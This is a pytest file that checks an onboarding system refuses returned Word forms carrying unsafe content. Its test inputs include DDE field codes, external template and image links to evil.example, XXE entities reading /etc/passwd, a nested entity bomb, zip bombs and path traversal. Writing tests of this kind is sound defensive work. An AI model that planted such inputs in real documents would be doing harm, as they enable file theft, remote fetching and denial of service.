"""Files that want more than to be read: refused before anything in them could act, fetch or swell."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest

from dancu.kernel.errors import Invalid
from dancu.onboarding.papers import reading
from dancu.onboarding.papers.documents import docx_of
from dancu.onboarding.papers.domain import PaperKind
from dancu.onboarding.papers.printed import printed
from dancu.onboarding.papers.returned import read_returned
from tests.onboarding.papers.samples import CONTEXT, a_form

PAPER = printed(PaperKind.UNDERTAKING, CONTEXT, a_form(PaperKind.UNDERTAKING))
GOOD = docx_of(PAPER)
DOCUMENT, HEADER, LINKS, TYPES = "word/document.xml", "word/header2.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Change = Callable[[bytes], bytes]


def repacked(changes: dict[str, Change] | None = None, more: dict[str, bytes] | None = None) -> bytes:
    """The good paper with some parts changed and some put in."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, (changes or {}).get(name, lambda data: data)(source.read(name)))
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return target.getvalue()


def swap(old: str, new: str) -> Change:
    def change(data: bytes) -> bytes:
        assert old.encode() in data
        return data.replace(old.encode(), new.encode(), 1)

    return change


def in_the_body(xml: str) -> bytes:
    return repacked({DOCUMENT: swap("<w:body>", f"<w:body>{xml}")})


def linked(kind: str, target: str, mode: str = "") -> bytes:
    outside = f' TargetMode="{mode}"' if mode else ""
    return repacked(
        {
            LINKS: swap(
                "</Relationships>", f'<Relationship Id="rX" Type="{_RELATION}/{kind}" Target="{target}"{outside}/></Relationships>'
            )
        }
    )


def field(*said: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in said)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def code_of(data: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        read_returned(data, PAPER)
    assert refused.value.field == "file"
    assert refused.value.message != refused.value.message_en
    return refused.value.code


def test_the_paper_these_are_made_from_is_taken() -> None:
    assert [each.key for each in read_returned(repacked(), PAPER).findings] == ["number"]


@pytest.mark.parametrize(
    "data",
    [
        repacked({TYPES: swap("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")}),
        repacked(
            {TYPES: swap("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')}
        ),
        repacked(more={"word/vbaProject.bin": b"x"}),
        repacked(more={"word/embeddings/oleObject1.bin": b"x"}),
        repacked(more={"word/activeX/activeX1.xml": b"<x/>"}),
    ],
    ids=["docm", "macro type", "macro part", "embedded", "activex"],
)
def test_macros_and_embedded_files_are_refused(data: bytes) -> None:
    assert code_of(data) == "paper.file.unsafe"


@pytest.mark.parametrize(
    "data",
    [
        linked("attachedTemplate", "https://evil.example/t.dotm", "External"),
        linked("image", "https://evil.example/pixel.png", "External"),
        linked("oleObject", "embeddings/x.bin"),
        linked("aFChunk", "chunk.html"),
        linked("subDocument", "other.docx", "external"),
    ],
    ids=["template", "picture", "object", "chunk", "part"],
)
def test_links_that_fetch_are_refused(data: bytes) -> None:
    assert code_of(data) == "paper.file.unsafe"


def test_a_mail_address_that_word_made_a_link_of_is_taken() -> None:
    data = linked("hyperlink", "mailto:canbo@tinh.example", "External")

    assert [each.key for each in read_returned(data, PAPER).findings] == ["number"]


@pytest.mark.parametrize(
    "xml",
    [
        field("DDEAUTO c:\\\\x.exe"),
        field(" D", "DE ", "x"),
        field(' INCLUDEPICTURE "https://evil.example/x.png"'),
        field(' INCLUDETEXT "/etc/passwd"'),
        f"<w:p>{field('QUOTE 68 68 69')[5:-6]}</w:p>",
        '<w:p><w:fldSimple w:instr="DDE x y"/></w:p>',
        "<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>",
        '<w:altChunk r:id="rX"/>',
        "<w:p><w:r><w:object/></w:r></w:p>",
    ],
)
def test_fields_that_act_are_refused_however_they_are_cut(xml: str) -> None:
    assert code_of(in_the_body(xml)) == "paper.file.unsafe"


def test_a_field_that_acts_is_refused_in_a_header_too() -> None:
    assert code_of(repacked({HEADER: swap(" PAGE ", " DDEAUTO x ")})) == "paper.file.unsafe"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_with_entities_is_refused(encoding: str) -> None:
    bomb = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b SYSTEM "file:///etc/passwd">]>'

    def change(data: bytes) -> bytes:
        return (bomb + data.decode().partition("?>")[2].replace("<w:body>", "<w:body>", 1)).encode(encoding)

    assert code_of(repacked({DOCUMENT: change})) == "paper.file.unsafe"


def test_nested_entities_do_not_swell() -> None:
    nested = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{nested}]><x>&e11;</x>'

    assert code_of(repacked({DOCUMENT: lambda _data: bomb.encode()})) in ("paper.file.unsafe", "paper.file.broken")


def test_a_file_that_unpacks_to_too_much_is_refused_by_its_table_of_contents() -> None:
    assert code_of(repacked(more={"word/media/image1.bmp": b"\0" * (reading.UNPACKED_BYTES_MAX + 1)})) == "paper.file.too_big"


def test_a_part_that_unpacks_to_too_much_is_refused_while_it_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "PART_BYTES_MAX", 20_000)

    assert code_of(repacked({DOCUMENT: lambda data: data + b" " * 20_000})) == "paper.file.too_big"


def test_a_table_of_contents_that_lies_about_sizes_is_not_believed() -> None:
    data = repacked(more={"word/footnotes.xml": b"<w/>" + b" " * 5_000_000})
    lying = data.replace((5_000_004).to_bytes(4, "little"), (40).to_bytes(4, "little"))

    assert lying != data
    assert code_of(lying) == "paper.file.broken"


def test_too_many_tags_for_so_short_a_paper_are_refused() -> None:
    assert code_of(in_the_body("<w:p/>" * 400_000)) == "paper.file.too_big"


def test_too_many_parts_are_refused() -> None:
    assert code_of(repacked(more={f"word/media/{n}.png": b"" for n in range(reading.PARTS_MAX)})) == "paper.file.too_big"


def test_a_file_past_the_size_limit_is_not_opened() -> None:
    assert code_of(GOOD + b"\0" * reading.FILE_BYTES_MAX) == "paper.file.too_big"
    assert code_of(b"%PDF-" + b"\0" * reading.FILE_BYTES_MAX) == "paper.file.too_big"


def test_tags_nested_without_end_are_refused() -> None:
    assert code_of(in_the_body("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000)) == "paper.file.broken"


def test_styles_in_a_ring_do_not_hang() -> None:
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:name w:val="{one}"/><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("r1", "r2"), ("r2", "r1"))
    )

    data = repacked({"word/styles.xml": swap("</w:styles>", f"{ring}</w:styles>")})

    assert [each.key for each in read_returned(data, PAPER).findings] == ["number"]


@pytest.mark.parametrize(
    "data",
    [
        GOOD[: len(GOOD) // 2],
        b"PK\x03\x04",
        repacked({DOCUMENT: lambda data: data[:-20]}),
        repacked({DOCUMENT: lambda data: b""}),
        repacked({"_rels/.rels": swap("word/document.xml", "../../../../etc/passwd")}),
        repacked({TYPES: swap("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml")}),
    ],
    ids=["cut", "only a signature", "cut document", "empty document", "outside the package", "not a text document"],
)
def test_broken_files_are_refused_with_what_to_do(data: bytes) -> None:
    assert code_of(data) == "paper.file.broken"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused() -> None:
    """One program would show the first, another the second."""
    with zipfile.ZipFile(io.BytesIO(GOOD)) as source:
        document = source.read(DOCUMENT)

    assert code_of(repacked(more={DOCUMENT: document})) == "paper.file.broken"


def test_an_encrypted_part_is_refused() -> None:
    """Also one that is not read here: an officer's program would ask for its password."""
    encrypted = bytearray(repacked(more={"word/media/image1.png": b"x"}))
    encrypted[encrypted.rfind(b"PK\x01\x02") + 8] |= 1

    assert code_of(bytes(encrypted)) == "paper.file.broken"


@pytest.mark.parametrize(
    "data", [b"", b"MZ\x90\x00", b"<html><script>1</script></html>", b"{\\rtf1 x}", b"\xd0\xcf\x11\xe0" + b"\0" * 600]
)
def test_other_kinds_of_files_are_refused_by_their_first_bytes(data: bytes) -> None:
    assert code_of(data) == "paper.file.kind"


def test_an_old_word_file_is_told_how_to_become_a_new_one() -> None:
    with pytest.raises(Invalid) as refused:
        read_returned(b"\xd0\xcf\x11\xe0" + b"\0" * 600, PAPER)

    assert refused.value.message.startswith("Tệp .doc kiểu cũ hoặc có mật khẩu.")
